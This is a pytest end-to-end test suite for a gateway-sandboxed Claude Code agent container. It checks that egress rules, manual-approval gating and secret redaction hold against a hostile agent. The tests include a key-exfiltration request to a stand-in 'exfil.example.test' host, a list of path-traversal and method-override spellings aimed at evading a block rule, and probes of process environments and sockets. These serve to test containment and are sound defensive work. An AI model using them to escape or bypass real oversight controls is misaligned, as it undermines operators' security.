"""From inside a real agent container: the only way out is the vault gateway, and its rules hold.

A whole Clawden (`clawden up`) with the real Claude Code CLI; the fake model is reached as
https://api.anthropic.com through the vault's host map. Scripts run in the container as the agent
user, with the agent's trust variables and HTTPS_PROXY pointed at its relay.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import posixpath
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from clawden import config as config_mod
from clawden import control
from clawden.bus import events as ev
from clawden.bus import subjects
from clawden.bus.ctl import Verb
from clawden.bus.ctl import vault as vault_ctl
from clawden.control import Rep, Req
from tests.e2e.harness import Stack, start_stack

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]

FETCH = """
import json, sys, urllib.request, urllib.error
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"https": "http://127.0.0.1:3128"}))
out = []
for url, method in json.loads(sys.argv[1]):
    try:
        with opener.open(urllib.request.Request(url, method=method), timeout=60) as r:
            out.append([r.status, r.read().decode()])
    except urllib.error.HTTPError as e:
        out.append([e.code, e.read().decode()])
print(json.dumps(out))
"""


@contextlib.contextmanager
def greeted_stack(home: Path, *, runner: str = "", vault: str = "") -> Iterator[Stack]:
    """A whole Clawden whose agent container is up (one message answered), stopped after."""
    s = start_stack(home, runner=runner, vault=vault)
    try:
        out = subprocess.run(
            [sys.executable, "-m", "clawden", "chat", "--once", "hello vault", "--timeout", "90"],
            env=s.env(),
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert out.returncode == 0, out.stderr
        yield s
    finally:
        s.stop()


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory, docker_client: object, agent_image: str) -> Iterator[Stack]:
    with greeted_stack(tmp_path_factory.mktemp("home"), vault="approval_timeout = 4") as s:
        yield s


def container(stack: Stack) -> Any:
    [found] = stack.containers()
    return found


def fetch(stack: Stack, *requests: tuple[str, str]) -> list[tuple[int, Any]]:
    result = container(stack).exec_run(["python", "-c", FETCH, json.dumps(requests)], user="1000")
    assert result.exit_code == 0, result.output.decode()
    answers = json.loads(result.output.decode().strip().splitlines()[-1])
    return [(status, _json_or_text(body)) for status, body in answers]


def _json_or_text(body: str) -> Any:
    try:
        return json.loads(body)
    except ValueError:
        return body


def vault(stack: Stack, verb: Verb[Req, Rep], request: Req) -> Rep:
    return control.run(config_mod.load(stack.home), verb, request)


def test_claude_code_keeps_its_default_https_endpoint_and_the_gateway_injects_the_key(stack: Stack) -> None:
    calls = stack.fake.messages_requests(with_tools=True)
    assert calls and {r.headers.get("x-api-key") for r in calls} == {stack.key}
    assert {r.headers.get("host") for r in calls} == {"api.anthropic.com"}
    assert all(r.body.get("stream") is True for r in calls)  # SSE, through the tunnel
    box = container(stack)
    env = dict(e.split("=", 1) for e in box.attrs["Config"]["Env"])
    assert "ANTHROPIC_BASE_URL" not in env
    assert env["SSL_CERT_FILE"] == "/run/clawden/trust/bundle.pem"
    assert env["NODE_EXTRA_CA_CERTS"] == "/run/clawden/trust/clawden-ca.pem"
    mounts = {m["Destination"]: m for m in box.attrs["Mounts"]}
    assert mounts["/run/clawden/trust"]["RW"] is False
    # The running Claude Code process: the relay as its proxy, no base URL, only the placeholder key.
    probe = box.exec_run(
        [
            "sh",
            "-c",
            "for p in /proc/[0-9]*; do grep -qa 'claude' $p/cmdline 2>/dev/null && tr '\\0' '\\n' < $p/environ; done",
        ],
        user="1000",
    ).output.decode()
    assert "HTTPS_PROXY=http://127.0.0.1:3128" in probe and "ANTHROPIC_BASE_URL" not in probe
    assert stack.key not in probe and "ANTHROPIC_API_KEY=clawden-managed" in probe
    logs = box.logs().decode()
    assert "CA trust self-test: python ok" in logs and "claude code ok" in logs


def test_there_is_no_way_out_but_the_groups_own_socket(stack: Stack) -> None:
    # Another group's socket exists on the host.
    vault(stack, vault_ctl.GATEWAY, vault_ctl.GroupRequest(agent_group="other"))
    script = f"""
import json, os, socket
v6 = [line.split()[-1] for line in open('/proc/net/ipv6_route').read().splitlines()]
s = socket.socket()
s.settimeout(2)
try:
    s.connect(('127.0.0.1', {stack.nats_url.rsplit(":", 1)[1]}))
    host_port = 'connected'
except OSError:
    host_port = 'refused'
try:
    gateway = sorted(os.listdir('/run/clawden/gateway'))
except PermissionError:  # a root install: the folder is root's, 0711, and only the socket is the agent's
    gateway = ['gateway.sock'] if os.path.exists('/run/clawden/gateway/gateway.sock') else []
print(json.dumps({{"interfaces": sorted(os.listdir('/sys/class/net')),
                  "v4_routes": len(open('/proc/net/route').read().splitlines()) - 1,
                  "v6_devices": sorted(set(v6)), "gateway": gateway, "host_port": host_port}}))
"""
    result = container(stack).exec_run(["python", "-c", script], user="1000").output.decode()
    seen = json.loads(result.strip().splitlines()[-1])
    # No interface but loopback and no route: no direct connection can leave, to any address.
    assert seen["interfaces"] == ["lo"] and seen["v4_routes"] == 0 and seen["v6_devices"] in ([], ["lo"])
    assert seen["gateway"] == ["gateway.sock"]
    assert seen["host_port"] == "refused"  # the host's NATS port is not the container's loopback
    found = (
        container(stack)
        .exec_run(
            ["sh", "-c", "find / -xdev -type s 2>/dev/null; find /run /workspace /home -type s 2>/dev/null"],
            user="1000",
        )
        .output.decode()
    )
    assert "other" not in found


def test_rules_hold_from_inside_the_container(stack: Stack) -> None:
    vault(
        stack,
        vault_ctl.RULES_ADD,
        vault_ctl.AddRule(name="e2e-limit", action="rate_limit", host="api.anthropic.com", path="/v1/limited", limit=2),
    )
    vault(
        stack,
        vault_ctl.RULES_ADD,
        vault_ctl.AddRule(name="e2e-block", action="block", host="api.anthropic.com", path="/v1/blocked/*"),
    )
    answers = fetch(
        stack,
        *[("https://api.anthropic.com/v1/limited", "GET")] * 3,
        ("https://api.anthropic.com/v1/blocked/x", "DELETE"),
        (f"https://exfil.example.test/collect?k={stack.key}", "GET"),
    )
    limited = [status for status, _ in answers[:3]]
    assert limited == [404, 404, 429]  # the fake has no such path: the first two reached it
    assert answers[2][1]["error"] == "rate_limited"
    assert answers[3][0] == 403 and answers[3][1]["error"] == "blocked_by_policy"
    assert answers[4][0] == 403 and answers[4][1]["error"] == "secret_leak_blocked"
    assert stack.key not in json.dumps(answers)
    assert not any(r.path.startswith("/v1/blocked") for r in stack.fake.requests)


async def test_an_approval_gated_request_waits_then_passes_fails_or_expires(stack: Stack) -> None:
    await control.ask(
        config_mod.load(stack.home),
        vault_ctl.RULES_ADD,
        vault_ctl.AddRule(name="e2e-ask", action="manual_approval", host="api.anthropic.com", path="/v1/ask/*"),
    )
    nc = await stack.connect("test-approver")
    asks: asyncio.Queue[ev.ApprovalRequest] = asyncio.Queue()

    async def on_request(msg: Any) -> None:
        event = ev.decode(msg.data)
        if isinstance(event, ev.ApprovalRequest):
            await asks.put(event)

    await nc.subscribe(subjects.APPROVAL_REQUEST, cb=on_request)
    await nc.flush()
    try:
        outcomes = []
        for decision in ("approved", "denied", None):
            request = ("https://api.anthropic.com/v1/ask/pay", "POST")
            call = asyncio.create_task(asyncio.to_thread(fetch, stack, request))
            ask = await asyncio.wait_for(asks.get(), 30)
            started = time.monotonic()
            await asyncio.sleep(0.5)
            assert not call.done()  # held while a human decides
            if decision is not None:
                await nc.publish(
                    subjects.approval_decision(ask.id), ev.encode(ev.ApprovalDecision(id=ask.id, decision=decision))
                )
            [(status, body)] = await asyncio.wait_for(call, 60)
            outcomes.append(
                (status, body if isinstance(body, str) else body.get("error"), round(time.monotonic() - started))
            )
    finally:
        await nc.close()

    assert outcomes[0][0] == 404  # approved: it reached the fake, which has no such path
    assert outcomes[1][:2] == (403, "manual_approval_denied")
    assert outcomes[2][:2] == (403, "manual_approval_denied") and outcomes[2][2] >= 3


RAW = """
import http.client, json, ssl, sys
out = []
for method, path, headers in json.loads(sys.argv[1]):
    conn = http.client.HTTPSConnection("127.0.0.1", 3128, context=ssl.create_default_context(), timeout=60)
    conn.set_tunnel("api.anthropic.com", 443)
    conn.putrequest(method, path, skip_host=False, skip_accept_encoding=True)
    for name, value in headers.items():
        conn.putheader(name, value)
    conn.endheaders()
    response = conn.getresponse()
    out.append([response.status, response.read().decode()])
    conn.close()
print(json.dumps(out))
"""


def raw(stack: Stack, *requests: tuple[str, str, dict[str, str]]) -> list[tuple[int, Any]]:
    """Requests written as a hostile agent would, byte for byte, through the container's relay."""
    result = container(stack).exec_run(["python", "-c", RAW, json.dumps(requests)], user="1000")
    assert result.exit_code == 0, result.output.decode()
    return [(status, _json_or_text(body)) for status, body in json.loads(result.output.decode().splitlines()[-1])]


def as_servers_resolve(path: str) -> str:
    """The path a Node or uvicorn server would route: escapes decoded, \\ as /, dot segments gone."""
    resolved = posixpath.normpath(unquote(path.split("#")[0].split(";")[0].replace("\\", "/")))
    return re.sub("/+", "/", resolved).lower()


def test_no_spelling_of_a_blocked_path_or_method_gets_past_the_gateway(stack: Stack) -> None:
    vault(
        stack,
        vault_ctl.RULES_ADD,
        vault_ctl.AddRule(
            name="e2e-no-prod", action="block", host="api.anthropic.com", method="DELETE", path="/v1/prod/*"
        ),
    )
    spellings = [
        "/v1/x/../prod/a",
        "/v1/./prod/a",
        "/v1/x/%2e%2e/prod/a",
        "/v1/%70rod/a",
        "/v1/prod%2Fa",
        "//v1//prod/a",
        "/v1\\prod/a",
        "/v1/prod/a#frag",
        "/v1/prod;x/a",
        "/v1/PROD/a",
        "/v1/prod",
    ]
    seen = len(stack.fake.requests)

    answers = raw(
        stack,
        *[("DELETE", p, {}) for p in spellings],
        ("delete", "/v1/prod/a", {}),
        ("POST", "/v1/prod/a", {"X-HTTP-Method-Override": "DELETE"}),
        ("POST", "/v1/prod/a?_method=DELETE", {}),
    )

    assert [(s, b["error"]) for s, b in answers] == [
        *[(403, "blocked_by_policy")] * 4,
        (400, "path_refused"),
        (403, "blocked_by_policy"),
        *[(400, "path_refused")] * 3,
        *[(403, "blocked_by_policy")] * 2,
        (400, "bad_request"),
        *[(403, "blocked_by_policy")] * 2,
    ]
    reached = [as_servers_resolve(r.path) for r in stack.fake.requests[seen:]]
    assert not any(p.startswith("/v1/prod") for p in reached), reached


def test_a_secret_in_the_path_reaches_the_site_and_never_comes_back(stack: Stack) -> None:
    token = "7777777:AAH-e2e_bot-token_0123456789"
    vault(
        stack,
        vault_ctl.SECRETS_ADD,
        vault_ctl.AddSecret(
            name="e2e-bot",
            type="generic",
            value=token,
            host="api.anthropic.com",
            path_template="/bot{value}",
            force=True,  # a generic secret on the model API's host: only this test's fake has one
        ),
    )
    seen = len(stack.fake.requests)
    try:
        answers = fetch(stack, ("https://api.anthropic.com/botPLACEHOLDER/getMe", "GET"))
    finally:
        vault(stack, vault_ctl.SECRETS_REMOVE, vault_ctl.Named(name="e2e-bot"))

    [(status, body)] = answers
    # The fake quotes the path it got in its 404, as many sites do; the agent reads its own placeholder.
    assert status == 404 and "/botPLACEHOLDER/getMe" in json.dumps(body)
    # (The agent's own closing model call may land in between.)
    assert [r.path for r in stack.fake.requests[seen:] if not r.path.startswith("/v1/")] == [f"/bot{token}/getMe"]
    assert token not in json.dumps(answers)
    logs = container(stack).logs().decode()
    assert token not in logs
